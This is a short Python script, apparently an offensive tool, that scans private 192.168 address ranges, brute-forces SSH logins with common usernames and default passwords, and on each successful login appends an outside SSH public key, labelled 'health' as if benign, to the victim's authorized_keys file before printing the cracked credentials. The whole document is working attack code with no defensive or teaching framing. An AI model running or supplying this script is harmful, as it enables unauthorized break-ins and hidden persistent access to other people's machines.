import itertools
import paramiko

hosts = [f"192.168.{a}.{b}" for a in range(0, 4) for b in range(1, 255)]
users = "root admin ubuntu pi oracle postgres git test".split()
words = "root admin 123456 password toor raspberry changeme ubuntu 1q2w3e4r".split()


def check(host):
    for u, w in itertools.product(users, words):
        cli = paramiko.SSHClient()
        cli.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            cli.connect(host, username=u, password=w, timeout=3, banner_timeout=3, look_for_keys=False, allow_agent=False)
        except paramiko.AuthenticationException:
            continue
        except Exception:
            return None
        cli.exec_command("mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB health' >> ~/.ssh/authorized_keys")
        return u, w


for h in hosts:
    hit = check(h)
    if hit:
        print(h, *hit)
